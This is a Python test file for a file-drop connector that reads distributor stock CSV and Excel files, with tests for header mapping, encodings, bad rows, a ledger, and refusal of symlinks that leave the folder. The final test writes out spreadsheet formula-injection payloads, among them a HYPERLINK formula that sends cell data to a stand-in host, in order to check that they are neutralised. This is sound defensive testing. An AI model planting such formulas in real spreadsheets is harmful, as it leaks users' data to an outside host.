"""FileDropConnector reading files: headers, encodings, bad rows, unreadable files, the ledger."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from connectors.base import Page
from connectors.cursors import cursor_order
from connectors.dropreport import Problem, write_report
from connectors.filedrop import LEDGER, FileDropConnector, FileDropSettings, Ledger
from core.errors import PermanentError
from tests.connectors.filedrop.files import COLUMNS, HEADER, report, write_csv, write_xlsx


def connector(folder: Path, **settings: Any) -> FileDropConnector:
    raw = {
        "folder": folder,
        "columns": COLUMNS,
        "required": ["sku", "location", "qty"],
        "numeric": ["qty"],
        "min_age_s": 0,
    } | settings
    return FileDropConnector("south", FileDropSettings.model_validate(raw))


def read(conn: FileDropConnector, cursor: str | None = None) -> list[Page]:
    return list(conn.fetch("stock", cursor))


def strip(record: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in record.items() if not k.startswith("_")}


def test_chinese_headers_map_to_record_keys_whatever_their_spacing(tmp_path: Path) -> None:
    write_csv(
        tmp_path / "south.csv",
        [[" 物料 编码 ", "仓库\u3000", "数量", "备注"], ["A-1", "WH-A", "1,200", "整箱"], ["", "", "", ""]],
    )
    (page,) = read(connector(tmp_path))
    sha = page.meta["sha256"]
    assert page.records == [
        {"sku": "A-1", "location": "WH-A", "qty": "1200", "_file": "south.csv", "_row": 2, "_sha256": sha}
    ]
    assert page.last
    assert page.meta["bad_rows"] == 0


def test_several_headers_may_feed_one_key_and_case_does_not_matter(tmp_path: Path) -> None:
    write_csv(tmp_path / "north.csv", [["Item Code", "WAREHOUSE", "Qty"], ["B-1", "WH-B", "7"]])
    conn = connector(tmp_path, columns=COLUMNS | {"itemcode": "sku", "Warehouse": "location", "qty": "qty"})
    (page,) = read(conn)
    assert strip(page.records[0]) == {"sku": "B-1", "location": "WH-B", "qty": "7"}


@pytest.mark.parametrize(
    ("encoding", "codec"),
    [("utf-8-sig", "utf-8-sig"), ("utf-8", "utf-8-sig"), ("gbk", "gb18030"), ("gb18030", "gb18030")],
)
def test_encodings_chinese_excel_writes_are_detected(tmp_path: Path, encoding: str, codec: str) -> None:
    name = "𠮷野家" if encoding == "gb18030" else "吉野家"  # 𠮷 is beyond GBK
    write_csv(tmp_path / "stock.csv", [HEADER, [f"{name}-1", "华南仓", "3", "备注"]], encoding=encoding)
    (page,) = read(connector(tmp_path))
    assert page.meta["encoding"] == codec
    assert strip(page.records[0]) == {"sku": f"{name}-1", "location": "华南仓", "qty": "3"}


def test_an_excel_sheet_reads_like_the_csv_with_row_numbers_as_excel_shows(tmp_path: Path) -> None:
    rows: list[list[Any]] = [
        HEADER,
        ["A-1", "WH-A", 12, None],
        [None, None, None, None],
        [10086, "WH-A", 3.0, "numbers typed as numbers"],
        ["A-3", None, "十", None],
    ]
    write_xlsx(tmp_path / "south.xlsx", rows)
    (page,) = read(connector(tmp_path))
    assert [(r["_row"], strip(r)) for r in page.records] == [
        (2, {"sku": "A-1", "location": "WH-A", "qty": "12"}),
        (4, {"sku": "10086", "location": "WH-A", "qty": "3"}),
        (5, {"sku": "A-3", "location": None, "qty": "十"}),
    ]
    assert page.meta["encoding"] is None
    assert page.meta["bad_rows"] == 1
    assert report(tmp_path / "done" / f"south.{page.meta['sha256'][:12]}.xlsx.errors.csv") == [
        ["5", "仓库", "", "required value is empty"],
        ["5", "数量", "十", "not a number"],
    ]


def test_a_named_sheet_and_a_title_row_above_the_header(tmp_path: Path) -> None:
    book = [["华南经销商库存表", None, None], HEADER[:3], ["A-1", "WH-A", 5]]
    write_xlsx(tmp_path / "south.xlsx", book, sheet="当前库存")
    (page,) = read(connector(tmp_path, sheet="当前库存", header_row=2))
    assert [(r["_row"], strip(r)) for r in page.records] == [
        (3, {"sku": "A-1", "location": "WH-A", "qty": "5"})
    ]


@pytest.mark.parametrize(
    ("name", "content", "problem", "column"),
    [
        ("broken.xlsx", b"PK\x03\x04 not really a workbook", "not a readable Excel workbook", ""),
        ("binary.csv", bytes(range(128, 256)) * 4, "neither UTF-8 nor GB18030", ""),
        ("old.xls", b"\xd0\xcf\x11\xe0", "old Excel .xls files", ""),
        ("no-qty.csv", "物料编码,仓库\nA-1,WH-A\n".encode(), "missing column 数量 (for qty)", "数量"),
        ("empty.csv", b"", "no header row", ""),
    ],
)
def test_unreadable_files_go_to_failed_with_a_report(
    tmp_path: Path, name: str, content: bytes, problem: str, column: str
) -> None:
    (tmp_path / name).write_bytes(content)
    assert read(connector(tmp_path, pattern=["*.csv", "*.xlsx", "*.xls"])) == []
    assert not (tmp_path / name).exists()
    (filed,) = [p for p in (tmp_path / "failed").iterdir() if not p.name.endswith(".errors.csv")]
    ((row, header, _value, said),) = report(filed.with_name(filed.name + ".errors.csv"))
    assert (row, header) == ("", column)
    assert problem in said


def test_a_missing_sheet_is_named_with_the_ones_there(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "south.xlsx", [HEADER], sheet="库存")
    assert read(connector(tmp_path, sheet="Sheet9")) == []
    (report_file,) = (tmp_path / "failed").glob("*.errors.csv")
    assert "no sheet 'Sheet9' (its sheets: 库存)" in report(report_file)[0][3]


def test_files_are_read_oldest_first_and_cursors_only_move_forward(tmp_path: Path) -> None:
    for n, age in ((1, 30), (2, 20), (3, 10)):
        write_csv(tmp_path / f"z{n}.csv", [HEADER, [f"A-{n}", "WH-A", n, ""]], age_s=age)
    write_csv(tmp_path / "a-newest.csv", [HEADER, ["A-9", "WH-A", 9, ""]])
    pages = read(connector(tmp_path))
    assert [p.meta["file"] for p in pages] == ["z1.csv", "z2.csv", "z3.csv", "a-newest.csv"]
    assert [p.last for p in pages] == [False, False, False, True]
    keys = [cursor_order(p.cursor) for p in pages]
    assert keys == sorted(keys)
    assert len(set(keys)) == 4
    assert all(p.cursor and p.cursor.endswith(p.meta["sha256"]) for p in pages)


def test_files_still_being_written_wait(tmp_path: Path) -> None:
    write_csv(tmp_path / "uploading.csv", [HEADER, ["A-1", "WH-A", 1, ""]])
    write_csv(tmp_path / "~$south.xlsx", [HEADER])  # Excel's lock file, never a stock list
    assert read(connector(tmp_path, min_age_s=60)) == []
    write_csv(tmp_path / "uploading.csv", [HEADER, ["A-1", "WH-A", 1, ""]], age_s=120)
    assert [p.meta["file"] for p in read(connector(tmp_path, min_age_s=60))] == ["uploading.csv"]


def test_reads_settle_against_the_saved_cursor(tmp_path: Path) -> None:
    conn = connector(tmp_path)
    write_csv(tmp_path / "a.csv", [HEADER, ["A-1", "WH-A", 1, ""]], age_s=20)
    write_csv(tmp_path / "b.csv", [HEADER, ["A-2", "WH-A", 2, ""]], age_s=10)
    first, _ = read(conn)

    # only the first page landed: the second file is read again, the first is filed unread
    (again,) = read(conn, first.cursor)
    assert again.meta["file"] == "b.csv"
    assert [p.name for p in (tmp_path / "done").iterdir()] == [f"a.{first.meta['sha256'][:12]}.csv"]
    events = [(e["event"], e["file"]) for e in map(json.loads, (tmp_path / LEDGER).read_text().splitlines())]
    assert events == [
        ("read", "a.csv"),
        ("read", "b.csv"),
        ("done", "a.csv"),
        ("retry", "b.csv"),
        ("read", "b.csv"),
    ]

    # a run from no cursor (--full) proves nothing: the unsettled read is retried
    assert [p.meta["file"] for p in read(conn, None)] == ["b.csv"]


def test_a_torn_ledger_line_is_dropped_and_a_damaged_one_refused(tmp_path: Path) -> None:
    ledger = tmp_path / LEDGER
    line = {"event": "read", "seq": 1, "sha256": "0" * 64, "file": "a.csv"}
    ledger.write_text(json.dumps(line) + '\n{"event": "do')
    assert Ledger(ledger, "south").unsettled == {1: line}
    assert ledger.read_text() == json.dumps(line) + "\n"

    ledger.write_text("not json\n" + json.dumps(line) + "\n")
    with pytest.raises(PermanentError, match="line 1 of the ledger"):
        Ledger(ledger, "south")


def test_settings_name_only_mapped_keys_and_the_folder_must_exist(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="required names price"):
        connector(tmp_path, required=["sku", "price"])
    with pytest.raises(PermanentError, match="does not exist"):
        read(connector(tmp_path / "nowhere"))
    connector(tmp_path).check()


def test_links_out_of_the_folder_are_never_followed_and_links_inside_are(tmp_path: Path) -> None:
    drop, outside = tmp_path / "drop", tmp_path / "elsewhere"
    drop.mkdir()
    outside.mkdir()
    secret = write_csv(outside / "payroll.csv", [HEADER, ["SECRET-1", "WH-A", 1, ""]])
    (drop / "stock.csv").symlink_to(secret)
    (drop / "hop.csv").symlink_to(Path("..") / "elsewhere" / "payroll.csv")
    (drop / "archive").mkdir()
    write_csv(drop / "archive" / "kept.csv", [HEADER, ["A-1", "WH-A", 2, ""]])
    (drop / "today.csv").symlink_to(drop / "archive" / "kept.csv")
    (drop / "folder.csv").mkdir()

    pages = read(connector(drop))

    assert [strip(r) for p in pages for r in p.records] == [{"sku": "A-1", "location": "WH-A", "qty": "2"}]
    problems = {r[2]: r[3] for f in (drop / "failed").glob("*.errors.csv") for r in report(f)}
    assert set(problems) == {"stock.csv", "hop.csv", "folder.csv"}
    assert "out of the drop folder" in problems["stock.csv"]
    assert "out of the drop folder" in problems["hop.csv"]
    assert "a directory" in problems["folder.csv"]
    assert secret.exists()
    assert (drop / "stock.csv").is_symlink()


def test_the_file_drop_report_never_holds_a_formula(tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    write_report(tmp_path / "r.csv", [Problem(-n, text, text, text) for n, text in enumerate(hostile)])
    assert report(tmp_path / "r.csv") == [[str(-n), "'" + t, "'" + t, "'" + t] for n, t in enumerate(hostile)]

    # as a distributor's file brings them: cells that are not numbers, in a numeric column
    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "-2+3", "@SUM(A1:A9)"]
    write_csv(
        tmp_path / "south.csv", [HEADER, *[[f"A-{n}", "WH-A", text, ""] for n, text in enumerate(cells)]]
    )
    read(connector(tmp_path))
    (errors,) = (tmp_path / "done").glob("south.*.errors.csv")
    assert [value for _row, _column, value, _problem in report(errors)] == ["'" + text for text in cells]
